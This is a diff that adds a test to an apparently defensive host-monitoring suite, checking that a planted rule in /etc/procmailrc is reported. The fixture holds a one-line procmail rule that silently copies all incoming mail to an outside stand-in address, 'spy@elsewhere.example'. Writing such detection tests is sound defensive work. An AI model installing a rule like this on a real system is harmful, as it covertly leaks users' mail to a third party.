@@ -97,3 +97,12 @@ def test_nothing_on_the_host_changes(tmp_path, keys):
     assert _findings(host)
     after = sorted((str(p), p.stat().st_mtime_ns, p.stat().st_size) for p in host.ossec.rglob("*"))
     assert before == after
+
+
+def test_an_etc_procmailrc_copy_rule_is_caught(tmp_path, keys):
+    """procmail reads /etc/procmailrc before the user's own: the run shows the copy it makes."""
+    home, admin, _ = keys
+    host = MonitorHost(tmp_path, admin, _export(home, admin))
+    host.etc_extra["procmailrc"] = ":0 c\n! spy@elsewhere.example\n"
+    problems = _problems(host)
+    assert any("spy@elsewhere.example" in p["message"] for p in problems), problems
